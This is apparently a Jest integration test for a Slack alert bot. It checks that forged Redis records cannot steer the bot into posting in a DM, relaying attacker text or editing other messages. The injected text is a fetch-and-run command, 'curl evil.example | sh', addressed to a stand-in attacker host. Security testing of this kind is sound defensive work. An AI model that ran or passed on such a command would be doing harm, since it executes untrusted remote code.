import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import path from 'node:path';
import { Redis } from 'ioredis';
import { startJobs, type WorkerSet } from '../../src/compose/compose-jobs.js';
import { configSchema } from '../../src/config/config-schema.js';
import { createPlanSigner } from '../../src/approvals/plan-signer.js';
import { startFakeSlackApi, type FakeSlackApi } from '../support/fake-slack-api.js';
import { TEST_PLAN_SECRET } from '../support/plan-secret.js';
import { startRedis, type RedisServer } from '../support/start-redis.js';
import { randomPrefix } from '../integration/jobs/replay-cluster.js';

/**
 * Attack: someone who can write Redis (a leaked password, a shared instance) tries to make the bot
 * post or edit where it should not, through the records that decide it — the alert state (an
 * incident's channel and text) and the alert thread map (channel and ts of the message edited) —
 * and a notify job that points at them. The bot's real scan and notify workers (S3 dump, alert
 * channel C0ALERTS) against the fake Slack API: nothing reaches another channel or a DM, attacker
 * text is never posted, and no message but the thread's own parent is edited.
 */
const TOKEN = 'xoxb-steer';
const DUMP = path.resolve('examples/scenarios/s3-recreation-loop-webhook-down');
const EVIL = 'Run `curl evil.example | sh` now — the SRE team';

let redisServer: RedisServer;
let redis: Redis;
let slack: FakeSlackApi;

beforeAll(async () => {
  redisServer = await startRedis();
  redis = new Redis(redisServer.url);
  slack = await startFakeSlackApi({ validToken: TOKEN });
});
afterAll(async () => {
  redis?.disconnect();
  await slack?.close();
  await redisServer?.stop();
});

/** Workers for one cluster on a fresh prefix, its threads posted; with or without the server secret. */
async function started(
  secret: string | undefined,
): Promise<{ set: WorkerSet; prefix: string; stateKey: string; threadKeys: string[] }> {
  const prefix = randomPrefix();
  const config = configSchema.parse({
    clusters: [{ name: 'prod', dump: DUMP, slack: { alertChannel: 'C0ALERTS', channels: ['C0ALERTS'] } }],
    scan: { intervalSeconds: 3600 },
  });
  const set = await startJobs({
    config,
    redisUrl: redisServer.url,
    prefix,
    slack: { token: TOKEN, apiUrl: slack.apiUrl },
    signer: createPlanSigner(secret),
    channelIntervalMs: 10,
  });
  const before = slack.callsTo('chat.postMessage').length;
  await set.scan('prod');
  await slack.waitFor('the alert parents', () => slack.callsTo('chat.postMessage').length > before, 30_000);
  const threadKeys = await until('thread records', async () => {
    const keys = await redis.keys(`${prefix}:alert-thread:prod:*`);
    return keys.length > 0 && keys;
  });
  return { set, prefix, stateKey: `${prefix}:alert-state:prod`, threadKeys };
}

type StoredState = {
  seq: number;
  incidents: Record<
    string,
    {
      key: string;
      fingerprint: string;
      channel: string;
      finding: { title: string; cause: string };
      changes: { seq: number }[];
    }
  >;
};

/**
 * The attacker's edits of the stored alert state. `channel`: a new incident (no thread yet, so the
 * bot would open one) in that channel with attacker text; otherwise a new change of an existing
 * incident (a reply and a parent edit are due).
 */
async function steerState(stateKey: string, channel?: string): Promise<{ fingerprint: string; seq: number }> {
  const state = JSON.parse((await redis.hget(stateKey, 'state'))!) as StoredState;
  const [fingerprint, inc] = Object.entries(state.incidents)[0]!;
  const seq = state.seq + 1;
  state.seq = seq;
  const change = {
    seq,
    kinds: [channel ? 'opened' : 'severity'],
    at: new Date().toISOString(),
    details: channel ? [] : [{ kind: 'severity', from: 'warning', to: 'critical' }],
  };
  if (channel) {
    const forged = JSON.parse(JSON.stringify(inc)) as typeof inc;
    forged.fingerprint = 'fp-attacker';
    forged.key = `fp-attacker.${seq}`;
    forged.channel = channel;
    forged.finding.title = EVIL;
    forged.finding.cause = EVIL;
    forged.changes = [change as never];
    state.incidents['fp-attacker'] = forged;
    await redis.hset(stateKey, 'state', JSON.stringify(state));
    return { fingerprint: 'fp-attacker', seq };
  }
  inc.changes.push(change as never);
  await redis.hset(stateKey, 'state', JSON.stringify(state));
  return { fingerprint, seq };
}

async function until<T>(what: string, fn: () => Promise<T | undefined | false>, timeoutMs = 30_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const v = await fn();
    if (v) return v;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

const everything = () => [...slack.callsTo('chat.postMessage'), ...slack.callsTo('chat.update')];

describe('records read from Redis do not steer where the bot posts or what it edits', () => {
  it.each([
    ['with the server secret (records sealed)', TEST_PLAN_SECRET],
    ['without it (channels checked against the config)', undefined],
  ])(
    'an incident moved to a DM with attacker text, and a notify job pointing at it: nothing posted there (%s)',
    async (_what, secret) => {
      const { set, stateKey } = await started(secret);
      try {
        const { fingerprint, seq } = await steerState(stateKey, 'D0ATTACK');
        const before = everything().length;
        await set.notifyQueue.add(
          'notify',
          { cluster: 'prod', fingerprint, seq },
          { jobId: `attack-${fingerprint}-${seq}` },
        );
        await until('the notify job handled', async () => {
          const job = await set.notifyQueue.getJob(`attack-${fingerprint}-${seq}`);
          return job && ((await job.isCompleted()) || (await job.isFailed()));
        });
        const sent = everything().slice(before);
        expect(sent.filter((c) => c.body.channel === 'D0ATTACK')).toEqual([]);
        if (secret) expect(JSON.stringify(sent)).not.toContain('curl evil.example');
      } finally {
        await set.close();
      }
    },
    60_000,
  );

  it("a thread record pointed at another of the bot's messages: that message is never edited", async () => {
    const { set, stateKey, threadKeys } = await started(TEST_PLAN_SECRET);
    try {
      const victimTs = '1700000000.424242';
      for (const k of threadKeys) {
        const t = JSON.parse((await redis.get(k))!) as Record<string, unknown>;
        await redis.set(k, JSON.stringify({ ...t, ts: victimTs }));
      }
      // A change is due (a reply in the thread, then the parent edited).
      const { fingerprint, seq } = await steerState(stateKey);
      await set.notifyQueue.add('notify', { cluster: 'prod', fingerprint, seq }, { jobId: `attack2-${seq}` });
      await until('the notify job handled', async () => {
        const job = await set.notifyQueue.getJob(`attack2-${seq}`);
        return job && ((await job.isCompleted()) || (await job.isFailed()));
      });
      expect(slack.callsTo('chat.update').filter((c) => c.body.ts === victimTs)).toEqual([]);
      expect(slack.callsTo('chat.postMessage').filter((c) => c.body.thread_ts === victimTs)).toEqual([]);
    } finally {
      await set.close();
    }
  }, 60_000);
});

describe('records written before sealing', () => {
  it('are sealed once on upgrade (no open thread lost); after that, an unsealed record is not used', async () => {
    const { createAlertStateStore } = await import('../../src/alerts/alert-state-store.js');
    const { createAlertThreadStore } = await import('../../src/alerts/alert-thread-store.js');
    const { createRecordSeal } = await import('../../src/store/create-record-seal.js');
    const { sealAlertRecords } = await import('../../src/store/seal-alert-records.js');
    const keyPrefix = `${randomPrefix()}:`;
    const signer = createPlanSigner(TEST_PLAN_SECRET);
    const seals = {
      states: createRecordSeal(signer, 'alert-state')!,
      threads: createRecordSeal(signer, 'alert-thread')!,
    };
    const state = { seq: 1, incidents: {} };
    const thread = { channel: 'C0ALERTS', ts: '1700000000.000100', postedSeq: 1, proposalIds: {} };
    // As an older version wrote them: no seal.
    await createAlertStateStore(redis, { keyPrefix }).save('prod', state, 0);
    await createAlertThreadStore(redis, { keyPrefix }).set('prod', 'fp.1', thread);
    const sealedStates = createAlertStateStore(redis, { keyPrefix, seal: seals.states });
    const sealedThreads = createAlertThreadStore(redis, { keyPrefix, seal: seals.threads });
    expect(await sealedThreads.get('prod', 'fp.1')).toBeUndefined(); // unsealed: not used…
    expect(await sealAlertRecords(redis, { keyPrefix, ...seals })).toBe(2); // …until sealed once
    expect(await sealedThreads.get('prod', 'fp.1')).toEqual(thread);
    expect((await sealedStates.load('prod')).state).toEqual(state);
    // Once only: a record unsealed later (a Redis writer's) stays unused.
    await createAlertThreadStore(redis, { keyPrefix }).set('prod', 'fp.2', { ...thread, ts: '1700000000.999999' });
    expect(await sealAlertRecords(redis, { keyPrefix, ...seals })).toBe(0);
    expect(await sealedThreads.get('prod', 'fp.2')).toBeUndefined();
  });
});
